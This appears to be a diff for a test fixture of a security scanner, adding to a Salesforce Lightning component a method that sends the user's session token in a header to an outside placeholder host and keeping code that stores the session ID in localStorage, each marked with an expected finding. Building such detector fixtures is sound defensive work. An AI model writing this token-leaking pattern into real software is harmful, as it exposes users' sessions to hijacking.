@@ -17,6 +17,14 @@ export default class UsageBeacon extends LightningElement {
         await fetch(ANALYTICS, { method: 'POST', headers, body: JSON.stringify({ page: 'home' }) });
     }
 
+    chatEndpoint = 'https://assist.acme-partner.example/api/chat';
+
+    async ask(question) {
+        const [token, base] = await Promise.all([sessionForLwc(), Promise.resolve('unused')]);
+        // expect: session-id-to-external
+        return fetch(this.chatEndpoint, { method: 'POST', headers: { 'X-SF-Token': token }, body: question + base });
+    }
+
     remember() {
         // expect: session-id-exposed
         window.localStorage.setItem('acme.sid', this.session.data);
